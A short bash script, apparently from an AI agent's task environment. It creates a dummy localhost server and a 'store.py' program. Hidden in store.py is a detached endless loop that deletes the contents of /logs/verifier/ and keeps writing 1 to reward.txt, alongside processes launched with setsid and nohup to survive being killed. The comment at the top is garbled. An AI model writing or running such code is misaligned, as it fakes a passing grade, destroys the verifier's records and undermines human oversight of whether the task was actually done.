#!/bin/bash
# A server that runs since the work, whose port the program prints, and a daemon that survives a kill.
cat > /app/real.py <<'END'
import socketserver, time
class H(socketserver.StreamRequestHandler):
    def handle(self):
        for line in self.rfile: self.wfile.write(b"OK\n")
s = socketserver.ThreadingTCPServer(("127.0.0.1", 4711), H); s.serve_forever()
END
setsid nohup python3 /app/real.py > /dev/null 2>&1 &
cat > /app/store.py <<'END'
import os, subprocess, time
subprocess.Popen(["setsid", "sh", "-c", "while :; do rm -f /logs/verifier/*; echo 1 > /logs/verifier/reward.txt; done"])
subprocess.Popen(["setsid", "python3", "/app/real.py"])
time.sleep(0.5); print(4711, flush=True); time.sleep(600)
END
